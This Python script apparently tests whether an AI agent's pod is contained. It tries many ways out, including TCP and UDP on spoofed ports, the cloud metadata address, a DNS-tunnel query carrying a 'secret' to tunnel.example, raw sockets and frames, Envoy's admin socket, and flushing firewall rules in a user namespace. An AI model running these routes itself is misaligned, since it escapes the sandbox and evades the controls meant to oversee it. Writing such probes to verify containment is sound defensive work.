"""An agent that tries to get out of its pod: run as a program of its own, with nothing but Python.

`ways_out.py OUTSIDE-IPV4 OUTSIDE-IPV6 ADMIN-SOCKET` tries each of :data:`WAYS` and prints one JSON object: what became
of each, as far as the agent can tell. Which got out, only the host outside can tell: each goes to a port of its own.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator

SECONDS = 1.0
METADATA = "169.254.169.254"
MARK = b"out:"


def tcp(host: str, port: int, **how: object) -> str:
    """A connection, and bytes over it."""
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as connection:
        return _sent(connection, host, port, **how)


def udp(host: str, port: int, data: bytes = MARK, **how: object) -> str:
    """A datagram."""
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        return _sent(datagrams, host, port, data, **how)


def _sent(
    out: socket.socket, host: str, port: int, data: bytes = MARK, *, source: int = 0, device: bytes = b"",
    broadcast: bool = False,
) -> str:  # fmt: skip
    out.settimeout(SECONDS)
    out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if device:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
    if broadcast:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if source:
        out.bind(("", source))
    out.connect((host, port))
    out.send(data)
    return "sent"


def fast_open(host: str, port: int) -> str:
    """Data in the first packet."""
    with socket.socket() as connection:
        connection.settimeout(SECONDS)
        connection.sendto(MARK, socket.MSG_FASTOPEN, (host, port))
    return "sent"


def ping(host: str) -> str:
    """An ICMP socket that needs no capability where the host allows it, as hosts of containers do."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as icmp:
        icmp.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + MARK, (host, 0))
    return "sent"


def raw(host: str) -> str:
    """A packet of a protocol that nobody filters by port."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as packets:  # RFC 3692: for experiments
        packets.sendto(MARK, (host, 0))
    return "sent"


def frame() -> str:
    """A frame put on the device, below every rule of OUTPUT."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
        frames.bind(("eth0", 0))
        frames.send(b"\xff" * 6 + b"\x02" + bytes(5) + b"\x88\xb5" + MARK.ljust(46))  # IEEE: for local experiments
    return "sent"


def another_user(host: str, port: int) -> str:
    """As root, who may be trusted."""
    os.setresuid(0, 0, 0)
    return udp(host, port)


def without_the_rules(host: str, port: int) -> str:
    """As root of a user namespace of its own, the rules taken away first."""
    taken = subprocess.run(["unshare", "-Ur", "nft", "flush", "ruleset"], capture_output=True, text=True, check=False)
    return f"{udp(host, port)}; {taken.stderr.strip()[-80:]}"


def in_a_user_namespace() -> str:
    """A raw socket as root of a user namespace."""
    if ctypes.CDLL(None).unshare(0x10000000) != 0:  # CLONE_NEWUSER
        raise PermissionError("no user namespace")
    return raw(sys.argv[1])


def admin(path: str) -> str:
    """Envoy's own, with which it can be turned off."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)
        connection.sendall(b"GET /ready HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n")
        return connection.recv(64).split(b"\r\n")[0].decode()


def question(name: bytes) -> bytes:
    """A DNS query that carries something out in its name."""
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)


def ways(four: str, six: str, control: str) -> Iterator[tuple[str, Callable[[], str]]]:
    """Each by its name. The ports are what the host outside knows them by."""
    secret = question(b"c2VjcmV0.tunnel.example")
    yield "tcp", lambda: tcp(four, 443)
    yield "tcp, another port", lambda: tcp(four, 8080)
    yield "tcp, IPv6", lambda: tcp(six, 444)
    yield "tcp, IPv4-mapped IPv6", lambda: tcp(f"::ffff:{four}", 445)
    yield "tcp, from a port of a service", lambda: tcp(four, 446, source=443)
    yield "tcp, bound to the device", lambda: tcp(four, 449, device=b"eth0")
    yield "tcp, fast open", lambda: fast_open(four, 448)
    yield "tcp, metadata", lambda: tcp(METADATA, 80)
    yield "udp", lambda: udp(four, 5000)
    yield "udp, IPv6", lambda: udp(six, 5001)
    yield "udp, from the resolver's port", lambda: udp(four, 5002, source=53)
    yield "udp, from Envoy's port", lambda: udp(four, 5004, source=15001)
    yield "udp, bound to the device", lambda: udp(four, 5005, device=b"eth0")
    yield "udp, metadata", lambda: udp(METADATA, 5006)
    yield "udp, broadcast", lambda: udp(four.rpartition(".")[0] + ".255", 5003, broadcast=True)
    yield "udp, multicast", lambda: udp("224.0.0.251", 5353)
    yield "udp, IPv4-mapped IPv6", lambda: udp(f"::ffff:{four}", 5007)
    yield "dns tunnel", lambda: udp(four, 53, secret)
    yield "dns tunnel, tcp", lambda: tcp(four, 53)
    yield "icmp", lambda: ping(four)
    yield "raw socket", lambda: raw(four)
    yield "frame", frame
    yield "Envoy's admin", lambda: admin(control)
    yield "the rules taken away", lambda: without_the_rules(four, 5008)
    yield "user namespace", in_a_user_namespace
    yield "another user", lambda: another_user(four, 5009)


def apart(what: Callable[[], str]) -> Callable[[], str]:
    """Begun in a process of its own: some change who it is. Gives what came of it."""
    reading, writing = os.pipe()
    if os.fork() == 0:
        try:
            told = what()
        except Exception as error:
            told = f"{type(error).__name__}: {error}"
        os.write(writing, told.encode()[:512])
        os._exit(0)
    os.close(writing)

    def told_() -> str:
        with open(reading, "rb") as pipe:  # noqa: PTH123
            found = pipe.read().decode()
        with contextlib.suppress(ChildProcessError):
            os.wait()
        return found

    return told_


if __name__ == "__main__":
    begun = {name: apart(what) for name, what in ways(*sys.argv[1:4])}
    print(json.dumps({name: told() for name, told in begun.items()}))
